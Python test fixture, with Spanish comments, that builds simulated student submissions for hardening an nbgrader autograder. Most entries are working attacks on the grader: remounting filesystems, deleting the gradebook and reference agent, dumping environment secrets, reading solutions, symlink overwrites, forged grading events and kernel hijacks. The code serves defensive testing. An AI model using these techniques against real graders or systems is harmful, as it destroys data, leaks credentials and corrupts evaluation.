"""La clase de muestra: entregas armadas desde las fuentes de instructor, para probar la calificación.

Cada entrega es la versión repartida con las respuestas de la fuente (sin las marcas de solución),
salvo lo que su estudiante cambie: una respuesta equivocada, una que lanza, un bucle infinito, una
celda de prueba editada o borrada, y las que atacan a quien califica (leer lo que no debería, falsificar
o adivinar al juez del Nivel 2, sobrevivir a la muerte, traer módulos, no dejarse interrumpir, llenar
/dev/shm). ``submit`` las deja donde nbgrader autograde las busca, con los archivos de ``HANDED_IN``.
"""

import os
import unicodedata

import nbformat

from solutions.grading import paths
from solutions.grading.manual import SOLUTION_MARKERS
from solutions.grading.release import ASSIGNMENT, EXERCISES

SOURCE = os.path.join(paths.SOURCE, ASSIGNMENT)
NIVEL_1, NIVEL_2 = EXERCISES


def cells_by_id(path):
    """{grade_id: celda} de las celdas de nbgrader de un notebook."""
    cells = nbformat.read(path, as_version=4).cells
    return {c.metadata.nbgrader["grade_id"]: c for c in cells if "nbgrader" in c.metadata}


def solution(name, grade_id):
    """La respuesta de la fuente de instructor, sin las marcas de solución."""
    return SOLUTION_MARKERS.sub("", cells_by_id(os.path.join(SOURCE, f"{name}.ipynb"))[grade_id].source)


def _prod_order_script():
    """El script de la solución, pero con ORDER=fixed corriendo también el orden de producción."""
    return solution(NIVEL_2, "script").replace(
        '"fixed": run_tool_uses_fixed}', '"fixed": run_tool_uses_prod}'
    )


# Una «corrección» que escribe el marcador, atrapa la caída simulada y lo borra: pasa con una
# excepción en el mismo proceso; con SIGKILL de verdad deja result null en disco.
CATCHING_FIX = """import json


def run_tool_uses_fixed(content):
    results = []
    for block in tool_uses(content):
        save_effect(block["id"], {"name": block["name"], "result": None, "at": now_ms()})
        try:
            output = run_tool(block["name"], block["input"])
        except BaseException:
            with open("effects.json", encoding="utf-8") as f:
                ledger = json.load(f)
            ledger.pop(block["id"], None)
            with open("effects.json", "w", encoding="utf-8") as f:
                json.dump(ledger, f)
            raise
        save_effect(block["id"], {"name": block["name"], "result": output, "at": now_ms()})
        results.append(tool_result(block["id"], output))
    return results"""

# Un script que no corre nada: escribe a mano lo que la comprobación mira.
FORGED_SCRIPT = """%%writefile _trabajo/nivel_2/reproducir_orden.py
import json
import os
import sys

if os.environ["ORDER"] == "prod":
    json.dump({"toolu_03": {"name": "write_report", "result": None, "at": 1}}, open("effects.json", "w"))
    if os.environ.get("CRASH_AFTER"):
        print("[kill] caída simulada")
        sys.exit(137)
else:
    open("report.txt", "w").write("# Reporte de ventas\\n")
    if os.environ.get("CRASH_AFTER"):
        sys.exit(137)
    json.dump({"toolu_03": {"name": "write_report", "result": "ok", "at": 1}}, open("effects.json", "w"))
"""

# Cambia cómo corren las celdas siguientes (las de prueba incluidas): toda excepción se traga.
HIJACK = """prediction[1] = {}
get_ipython().showtraceback = lambda *args, **kwargs: None
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)"""


# Un objeto que dice ser igual a cualquier cosa.
LIAR = """class Anything(str):
    def __eq__(self, other):
        return True

    __hash__ = str.__hash__


prediction[2] = {key: Anything("x") for key in ("pending_tool_use", "tool_result_in_messages",
    "ledger_has_entry", "reconcile_branch", "resume_finishes", "report_copies_after_resume",
    "notices_after_resume")}"""

# La prueba escucha en un puerto de 127.0.0.1 y lo deja en este archivo de la entrega: una conexión
# desde la entrega sería red fuera del aislamiento.
ESCAPE_PORT_FILE = "puerto_de_prueba.txt"
# Desde el kernel: volver a montar con escritura todo lo que ve (quien califica suele ser root),
# cambiar la base de notas, borrar el agente de referencia (ahora y después), conectarse por red a la
# máquina e imprimir su entorno (donde quien califica podría tener una clave).
ESCAPE = (
    """import glob
import os
import socket
import subprocess

import harness

for line in reversed(open("/proc/self/mounts").read().splitlines()):
    subprocess.run(["mount", "-o", "remount,rw,bind", line.split()[1]], capture_output=True)
here = os.getcwd()
course = here.split(os.sep + "autograded" + os.sep)[0]
subprocess.Popen(["sh", "-c", f"sleep 2; echo roto > {course}/gradebook.db"], start_new_session=True)
repo = os.path.dirname(os.path.dirname(harness.__file__))
for path in (os.path.join(repo, "solutions", "agent.py"), os.path.join(course, "gradebook.db")):
    try:
        os.remove(path)
    except OSError:
        pass
try:
    port = int(open("{ESCAPE_PORT_FILE}").read()) if os.path.exists("{ESCAPE_PORT_FILE}") else 9
    socket.create_connection(("127.0.0.1", port), timeout=2).sendall(b"fuera")
except OSError:
    pass
print(dict(os.environ))
""".replace("{ESCAPE_PORT_FILE}", ESCAPE_PORT_FILE)
    + "\n"
    + "prediction[1] = {}"
)

# Deja en su carpeta enlaces simbólicos con el nombre de sus notebooks (y otro archivo) hacia el agente
# de referencia: quien califica, fuera del aislamiento, escribiría el notebook calificado y cambiaría
# permisos a través de ellos.
LINKS = """import os

import harness

target = os.path.join(os.path.dirname(os.path.dirname(harness.__file__)), "solutions", "agent.py")
for name in [n for n in os.listdir(".") if n.endswith(".ipynb")] + ["notas.txt"]:
    if os.path.lexists(name):
        os.remove(name)
    os.symlink(target, name)
prediction[1] = {}"""

# Una respuesta con el formato correcto, pero las celdas de prueba imprimen JSON anidado sin fin en lugar
# de la predicción (cada una imprime la predicción entera: las tres valen 0).
NESTED = (
    solution(NIVEL_1, "momento_1")
    + """
import json

real_dumps = json.dumps
json.dumps = lambda obj, *a, **k: "[" * 100_000 + "]" * 100_000 if obj is prediction else real_dumps(obj, *a, **k)"""
)

# Una corrección correcta que además avisa por stderr, mucho más de lo que cabe en una tubería (64 KiB).
NOISY_FIX = solution(NIVEL_2, "corregida").replace(
    "    results = []",
    '    import sys\n\n    for n in range(2000):\n        print("aviso: corriendo", n, "." * 100, file=sys.stderr)\n'
    "    results = []",
    1,
)

# —— Lo que no debería ver: las soluciones, la verdad medida y a un compañero ——

# Cada momento del Nivel 1 lo saca de otro lado: la fuente de instructor (momento 1), la verdad que
# mide quien califica (momento 2) y el notebook de «correcta» en la carpeta del curso (momento 3). Si
# no lo encuentra, no responde.
_REPO = """import glob
import json
import os
import sys

import harness

repo = os.path.dirname(os.path.dirname(os.path.abspath(harness.__file__)))
course = os.getcwd().split(os.sep + "autograded" + os.sep)[0]


def answer_in(path, grade_id):
    for cell in json.load(open(path, encoding="utf-8"))["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == grade_id:
            text = "".join(cell["source"])
            text = "\n".join(line for line in text.splitlines() if "###" not in line)
            found = {"prediction": {}}
            exec(text, found)
            return found["prediction"]
"""
READS_SOLUTIONS = (
    _REPO
    + """
for path in glob.glob(os.path.join(repo, "solutions", "grading", "source", "*", "ejercicio_nivel_1.ipynb")):
    prediction.update(answer_in(path, "momento_1"))"""
)
READS_TRUTH = (
    _REPO
    + """
sys.path[:0] = [repo]  # el intento de importar la verdad de quien califica
try:
    from solutions.grading import truth

    prediction[2] = truth.measured()["momento_2"]
except Exception:
    pass"""
)
READS_CLASSMATE = (
    _REPO
    + """
for folder in ("submitted", "autograded"):
    path = os.path.join(course, folder, "correcta", "leccion_6", "ejercicio_nivel_1.ipynb")
    if os.path.exists(path):
        prediction.update(answer_in(path, "momento_3"))
        break"""
)

# —— El juez del Nivel 2, desde adentro ——

# Un script que no corre nada y busca con gc el objeto que avisa a quien califica: escribe los archivos
# a mano y, con ese objeto, los avisos que prueban que corrió el registro, la herramienta y crash_point.
FORGES_EVENTS = """%%writefile _trabajo/nivel_2/reproducir_orden.py
import gc
import json
import os
import sys

probe = None
for thing in gc.get_objects():
    try:
        if hasattr(thing, "emit") and hasattr(thing, "install"):
            probe = thing
    except Exception:
        pass
emit = probe.emit if probe else (lambda kind, value: None)
order, crash = os.environ["ORDER"], os.environ.get("CRASH_AFTER")
report = "# Reporte de ventas\\nClientes con novedades: 1\\n- Ana\\n"
if order == "prod":
    json.dump({"toolu_03": {"name": "write_report", "result": None, "at": 1}}, open("effects.json", "w"))
    emit("registro", {"toolu_03": None})
    if crash:
        emit("caida", crash)
        sys.exit(137)
    open("report.txt", "w").write(report)
else:
    open("report.txt", "w").write(report)
    emit("herramienta", "write_report")
    if crash:
        emit("caida", crash)
        sys.exit(137)
    json.dump({"toolu_03": {"name": "write_report", "result": "ok", "at": 1}}, open("effects.json", "w"))
"""

# El orden de producción (anotar null antes de ejecutar), salvo cuando encuentra en su proceso (con gc)
# que hay una muerte programada: entonces, el orden correcto. Si la herramienta falla, borra su null.
SENSES_THE_MOMENT = """import gc
import json


def _watched():
    for thing in gc.get_objects():
        try:
            stops = thing.get("stop_at") if isinstance(thing, dict) else getattr(thing, "stop_at", None)
        except Exception:
            continue
        if stops:
            return True
    return False


def _drop(tool_use_id):
    with open("effects.json", encoding="utf-8") as f:
        ledger = json.load(f)
    ledger.pop(tool_use_id, None)
    with open("effects.json", "w", encoding="utf-8") as f:
        json.dump(ledger, f)


def run_tool_uses_fixed(content):
    careful = _watched()
    results = []
    for block in tool_uses(content):
        if not careful:
            save_effect(block["id"], {"name": block["name"], "result": None, "at": now_ms()})
        try:
            output = run_tool(block["name"], block["input"])
        except Exception as err:
            _drop(block["id"])
            results.append(tool_result(block["id"], f"Error de ejecución de la herramienta: {err}", True))
            continue
        _drop(block["id"])  # el null, a mano: el registro del agente no anota sobre una anotación null
        save_effect(block["id"], {"name": block["name"], "result": output, "at": now_ms()})
        results.append(tool_result(block["id"], output))
    return results"""

# El orden de producción con un guardián: un proceso en su propia sesión que espera la muerte de la
# corrida (un pidfd) y borra del registro las anotaciones null antes de que se lea el disco.
SURVIVING_CHILD = """import json
import os
import select


def _guard():
    parent = os.getpid()
    if os.fork() == 0:
        try:
            os.setsid()
            select.select([os.pidfd_open(parent)], [], [])
            with open("effects.json", encoding="utf-8") as f:
                ledger = json.load(f)
            done = {k: v for k, v in ledger.items() if v.get("result") is not None}
            if done != ledger:
                with open("effects.json.nuevo", "w", encoding="utf-8") as f:
                    json.dump(done, f)
                os.replace("effects.json.nuevo", "effects.json")
        finally:
            os._exit(0)


def _drop(tool_use_id):
    with open("effects.json", encoding="utf-8") as f:
        ledger = json.load(f)
    ledger.pop(tool_use_id, None)
    with open("effects.json", "w", encoding="utf-8") as f:
        json.dump(ledger, f)


def run_tool_uses_fixed(content):
    _guard()
    results = []
    for block in tool_uses(content):
        save_effect(block["id"], {"name": block["name"], "result": None, "at": now_ms()})
        try:
            output = run_tool(block["name"], block["input"])
        except Exception as err:
            _drop(block["id"])
            results.append(tool_result(block["id"], f"Error de ejecución de la herramienta: {err}", True))
            continue
        _drop(block["id"])  # el null, a mano: el registro del agente no anota sobre una anotación null
        save_effect(block["id"], {"name": block["name"], "result": output, "at": now_ms()})
        results.append(tool_result(block["id"], output))
    return results"""

# —— Lo que se entrega además de los notebooks, y lo que se come la máquina ——

# Módulos entregados junto a los notebooks que, si algún arranque de Python los importara desde la
# carpeta de la entrega, harían que el kernel no arranque (o que la celda de prueba no responda).
_BROKEN_MODULE = 'raise SystemExit("un módulo entregado corrió al arrancar el kernel")\n'
HANDED_IN_MODULES = {
    "ipykernel_launcher.py": _BROKEN_MODULE,
    "sitecustomize.py": _BROKEN_MODULE,
    "json.py": _BROKEN_MODULE,
    "harness/__init__.py": _BROKEN_MODULE,
}

# Un bucle que no se deja interrumpir: ignora SIGINT (la interrupción de una celda). Espera en vez de
# girar: lo suyo es no dejarse interrumpir (el bucle que gira es el de «bucle»), y así no le quita
# núcleo a la clase mientras se corta (su tiempo límite y la espera de la interrupción).
IGNORES_SIGINT = """import signal
import time

signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    time.sleep(1)"""

# Llena /dev/shm (memoria de la máquina) con 1 GiB antes de responder bien.
FILLS_SHM = """with open("/dev/shm/relleno", "wb") as f:
    for _ in range(1024):
        f.write(bytes(1 << 20))
""" + solution(NIVEL_1, "momento_1")

# Un error de razonamiento, no un ataque: en el momento 1 cree que --resume concilia y termina (no ve
# que el punto A tarde guarda un tool_use sin su tool_result). Tres datos mal, cuatro bien.
HALF_RIGHT = (
    solution(NIVEL_1, "momento_1")
    .replace('"reconcile_branch": "agregando is_error"', '"reconcile_branch": "no reanudó"')
    .replace('"resume_finishes": False', '"resume_finishes": True')
    .replace('"notices_after_resume": 0', '"notices_after_resume": 1')
)

# Una «corrección» que no corrige nada: carga el agente que las comprobaciones prestan y llama a su
# run_tool_uses (el bueno). Lo prestado es solo su registro: no tiene a quién llamar.
DELEGATES = """import os

from harness.runs.launcher import load_agent

_reference = load_agent(os.environ["LESSON_AGENT"], "prestado")


def run_tool_uses_fixed(content):
    return _reference.run_tool_uses(content)"""

# Las predicciones bien, escritas como las deja otro teclado: «no reanudó» en NFD («o» + tilde
# combinada) y una rama con mayúscula inicial (el enunciado dice que ahí las mayúsculas no importan).
UNICODE_NFD = solution(NIVEL_1, "momento_1").replace("no reanudó", unicodedata.normalize("NFD", "no reanudó"))
CAPITALISED = solution(NIVEL_1, "momento_2").replace('"agregando is_error"', '"Agregando is_error"')

# estudiante: {notebook: {grade_id: nueva fuente, o None para borrar la celda}}; None = en blanco.
# Un notebook que no está en el diccionario no se entrega (vale 0). Una entrega que ataca un solo nivel
# entrega solo ese notebook: el otro sería la respuesta modelo, que ya califican «correcta» y las
# demás, y cada notebook cuesta un kernel aislado (y, el del Nivel 2, sus corridas). Entregan los dos
# las que atacan lo que comparten los dos notebooks (la carpeta, el kernel que muere, /dev/shm, el
# repositorio, los módulos traídos) o se comparan con «correcta» nota por nota.
CLASS = {
    "correcta": {name: {} for name in EXERCISES},
    "en_blanco": None,
    "equivocada": {
        NIVEL_1: {
            "momento_2": solution(NIVEL_1, "momento_2").replace(
                '"notices_after_resume": 2', '"notices_after_resume": 1'
            )
        },
        NIVEL_2: {"script": _prod_order_script()},
    },
    "a_medias": {NIVEL_1: {"momento_1": HALF_RIGHT}},
    "secuestra_kernel": {NIVEL_1: {"momento_1": HIJACK}},
    "objeto_mentiroso": {NIVEL_1: {"momento_2": LIAR}},
    "atrapa_la_caida": {NIVEL_2: {"corregida": CATCHING_FIX}},
    "script_falso": {NIVEL_2: {"script": FORGED_SCRIPT}},
    "escapa": {NIVEL_1: {"momento_1": ESCAPE}, NIVEL_2: {}},
    "enlaza": {NIVEL_1: {"momento_1": LINKS}, NIVEL_2: {}},
    "anida": {NIVEL_1: {"momento_1": NESTED}},
    "borra_celdas": {
        NIVEL_1: {"preparacion": None, "momento_3": None, "prueba_momento_3": None},
        NIVEL_2: {"produccion": None},
    },
    "avisa_por_stderr": {NIVEL_2: {"corregida": NOISY_FIX}},
    "bucle": {NIVEL_1: {"momento_3": "while True:\n    pass"}},
    "imprime_en_bucle": {NIVEL_1: {"momento_3": 'while True:\n    print("x" * 1000)'}},
    "mata_su_kernel": {NIVEL_1: {"momento_1": "import os\n\nos._exit(0)"}, NIVEL_2: {}},
    "lee_soluciones": {
        NIVEL_1: {"momento_1": READS_SOLUTIONS, "momento_2": READS_TRUTH, "momento_3": READS_CLASSMATE},
        NIVEL_2: {},
    },
    "falsifica_avisos": {NIVEL_2: {"script": FORGES_EVENTS}},
    "siente_el_momento": {NIVEL_2: {"corregida": SENSES_THE_MOMENT}},
    "hijo_sobrevive": {NIVEL_2: {"corregida": SURVIVING_CHILD}},
    "trae_modulos": {name: {} for name in EXERCISES},
    "ignora_sigint": {NIVEL_1: {"momento_3": IGNORES_SIGINT}},
    "llena_shm": {NIVEL_1: {"momento_1": FILLS_SHM}, NIVEL_2: {}},
    "delega_al_agente": {NIVEL_1: {}, NIVEL_2: {"corregida": DELEGATES}},
    "escribe_en_nfd": {NIVEL_1: {"momento_1": UNICODE_NFD, "momento_2": CAPITALISED}, NIVEL_2: {}},
    "sin_nivel_2": {NIVEL_1: {}},
}
# Archivos que una entrega trae junto a sus notebooks: {estudiante: {ruta relativa: texto}}.
HANDED_IN = {"trae_modulos": HANDED_IN_MODULES}
# Las entregas cuyo bucle corta una celda por tiempo (una sola cada una).
LOOPS = ("bucle", "imprime_en_bucle", "ignora_sigint")
# Puntos automáticos que daría quien califica con honestidad (Nivel 1 de 6, Nivel 2 de 6): cada dato
# de una predicción vale su parte de los 2 puntos del momento (redondeada a centésimos).
HONEST = {
    "correcta": {NIVEL_1: 6, NIVEL_2: 6},
    "en_blanco": {NIVEL_1: 0, NIVEL_2: 0},
    "equivocada": {NIVEL_1: 5.71, NIVEL_2: 3},
    "a_medias": {NIVEL_1: 5.14, NIVEL_2: 0},
    "secuestra_kernel": {NIVEL_1: 4, NIVEL_2: 0},
    "objeto_mentiroso": {NIVEL_1: 4, NIVEL_2: 0},
    "atrapa_la_caida": {NIVEL_1: 0, NIVEL_2: 3},
    "script_falso": {NIVEL_1: 0, NIVEL_2: 3},
    "escapa": {NIVEL_1: 4, NIVEL_2: 6},
    "enlaza": {NIVEL_1: 4, NIVEL_2: 6},
    "anida": {NIVEL_1: 0, NIVEL_2: 0},
    "borra_celdas": {NIVEL_1: 4, NIVEL_2: 6},
    "avisa_por_stderr": {NIVEL_1: 0, NIVEL_2: 6},
    "bucle": {NIVEL_1: 4, NIVEL_2: 0},
    "imprime_en_bucle": {NIVEL_1: 4, NIVEL_2: 0},
    "mata_su_kernel": {NIVEL_1: 4, NIVEL_2: 6},
    "lee_soluciones": {NIVEL_1: 0, NIVEL_2: 6},
    "falsifica_avisos": {NIVEL_1: 0, NIVEL_2: 3},
    "siente_el_momento": {NIVEL_1: 0, NIVEL_2: 3},
    "hijo_sobrevive": {NIVEL_1: 0, NIVEL_2: 3},
    "trae_modulos": {NIVEL_1: 6, NIVEL_2: 6},
    "ignora_sigint": {NIVEL_1: 4, NIVEL_2: 0},
    "llena_shm": {NIVEL_1: 4, NIVEL_2: 6},
    "delega_al_agente": {NIVEL_1: 6, NIVEL_2: 3},
    "escribe_en_nfd": {NIVEL_1: 6, NIVEL_2: 6},
    "sin_nivel_2": {NIVEL_1: 6, NIVEL_2: 0},
}


def submission(released, name, changes):
    """La versión repartida con las respuestas de la fuente, salvo lo que ``changes`` cambie."""
    nb = nbformat.read(released, as_version=4)
    cells = []
    for cell in nb.cells:
        grading = cell.metadata.get("nbgrader", {})
        if changes is not None and grading.get("solution"):
            cell.source = solution(name, grading["grade_id"])
        if changes and grading.get("grade_id") in changes:
            if changes[grading["grade_id"]] is None:
                continue
            cell.source = changes[grading["grade_id"]]
        cells.append(cell)
    nb.cells = cells
    return nb


def submit(course_dir, released, students):
    """Escribe ``submitted/<estudiante>/leccion_6/*.ipynb`` para cada estudiante de ``students``."""
    for student, notebooks in students.items():
        folder = os.path.join(course_dir, "submitted", student, ASSIGNMENT)
        os.makedirs(folder, exist_ok=True)
        for name in EXERCISES:
            if notebooks is not None and name not in notebooks:
                continue  # no lo entregó
            changes = None if notebooks is None else notebooks[name]
            nb = submission(released[name], name, changes)
            nbformat.write(nb, os.path.join(folder, f"{name}.ipynb"))
        for relative, text in HANDED_IN.get(student, {}).items():
            path = os.path.join(folder, relative)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w", encoding="utf-8") as f:
                f.write(text)
